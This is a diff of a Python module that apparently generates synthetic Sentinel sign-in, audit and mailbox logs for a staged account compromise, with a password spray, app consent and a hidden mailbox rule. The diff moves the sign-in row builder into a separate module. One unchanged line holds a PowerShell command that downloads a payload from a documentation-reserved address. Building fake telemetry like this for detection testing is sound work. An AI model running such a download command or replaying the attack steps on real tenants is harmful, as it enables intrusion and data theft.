@@ -10,20 +10,18 @@ from typing import TYPE_CHECKING, Any
 from sentinel_emulator.workspace import Workspace, seeded_guid
 
 from .organisation import NETBIOS, Organisation, Person
+from .spray import AGENT, SPRAY_ADDRESS, spray_sign_in
 
 if TYPE_CHECKING:
     from .plot import Rows
 
-SPRAY_ADDRESS = "203.0.113.77"
 DROP_ADDRESS = "203.0.113.200"
-COUNTRY = "NL"
 APPLICATION = "Mail Archive Assistant"
 
 _LOCKED_OUT = {"leo.larch", "ines.ivy", "hugo.heather"}
 TRIES = 6
 _TRANSFERS = 24
 _DOWNLOADS = 120
-_AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
 # What the encoded command says is harmless: it names an address reserved for documentation.
 _SCRIPT = f"Invoke-WebRequest -Uri https://{DROP_ADDRESS}/update -OutFile $env:TEMP\\update.bin"
 
@@ -80,71 +78,8 @@ class Intruder:
     def sign_in_row(self, person: Person, moment: datetime, result: str, app: str) -> None:
         """Leave one row in SigninLogs."""
         self.counter += 1
-        success = result == "0"
-        description = {
-            "0": "",
-            "50126": "Invalid username or password or Invalid on-premise username or password.",
-            "50053": "The account is locked: too many sign-ins with an incorrect user ID or password were tried.",
-        }[result]
-        place = {"latitude": 52.374, "longitude": 4.89}
-        self.add(
-            "SigninLogs",
-            {
-                "TimeGenerated": moment,
-                "CreatedDateTime": moment,
-                "AADTenantId": self.workspace.tenant_id,
-                "AlternateSignInName": person.upn,
-                "AppDisplayName": app,
-                "AppId": "00000002-0000-0ff1-ce00-000000000000",
-                "AuthenticationRequirement": "singleFactorAuthentication",
-                "Category": "SignInLogs",
-                "ClientAppUsed": "Browser",
-                "ConditionalAccessStatus": "notApplied",
-                "CorrelationId": self.guid("correlation", self.counter),
-                "CrossTenantAccessType": "none",
-                "DeviceDetail": {"deviceId": "", "operatingSystem": "Linux", "browser": "Firefox 140.0"},
-                "DurationMs": 90 + self.counter % 60,
-                "HomeTenantId": self.workspace.tenant_id,
-                "IPAddress": SPRAY_ADDRESS,
-                "Id": self.guid("sign-in", self.counter),
-                "Identity": person.display_name,
-                "IsInteractive": True,
-                "IsRisky": success,
-                "Level": "4",
-                "Location": COUNTRY,
-                "LocationDetails": {
-                    "city": "Amsterdam",
-                    "state": "Noord-Holland",
-                    "countryOrRegion": COUNTRY,
-                    "geoCoordinates": place,
-                },
-                "OperationName": "Sign-in activity",
-                "OperationVersion": "1.0",
-                "Resource": "Microsoft.aadiam",
-                "ResourceDisplayName": app,
-                "ResourceGroup": "Microsoft.aadiam",
-                "ResourceTenantId": self.workspace.tenant_id,
-                "ResultDescription": description,
-                "ResultSignature": "None",
-                "ResultType": result,
-                "RiskDetail": "none",
-                "RiskEventTypes": '["unfamiliarFeatures"]' if success else "[]",
-                "RiskEventTypes_V2": '["unfamiliarFeatures"]' if success else "[]",
-                "RiskLevelAggregated": "medium" if success else "none",
-                "RiskLevelDuringSignIn": "medium" if success else "none",
-                "RiskState": "atRisk" if success else "none",
-                "SignInIdentifier": person.upn,
-                "SourceSystem": "Azure AD",
-                "Status": {"errorCode": int(result), "failureReason": description},
-                "TokenIssuerType": "AzureAD",
-                "UniqueTokenIdentifier": self.guid("token", self.counter),
-                "UserAgent": _AGENT,
-                "UserDisplayName": person.display_name,
-                "UserId": person.object_id,
-                "UserPrincipalName": person.upn,
-                "UserType": "Member",
-            },
-        )
+        ids = {name: self.guid(name, self.counter) for name in ("correlation", "sign-in", "token")}
+        self.add("SigninLogs", spray_sign_in(self.workspace, person, moment, result, app, ids))
 
     def mailbox_rule(self) -> None:
         """Hide what the owner of the mailbox should not see."""
@@ -189,7 +124,7 @@ class Intruder:
                     "AADOperationType": "Assign",
                     "AADTenantId": self.workspace.tenant_id,
                     "ActivityDisplayName": operation,
-                    "AdditionalDetails": [{"key": "User-Agent", "value": _AGENT}],
+                    "AdditionalDetails": [{"key": "User-Agent", "value": AGENT}],
                     "Category": "ApplicationManagement",
                     "CorrelationId": self.guid("consent"),
                     "DurationMs": 0,
@@ -397,7 +332,7 @@ class Intruder:
             "UserId": self.victim.upn,
             "UserKey": self.victim.object_id,
             "UserType": "Regular",
-            "UserAgent": _AGENT,
+            "UserAgent": AGENT,
             "SourceSystem": "OfficeActivityManager",
         }
 
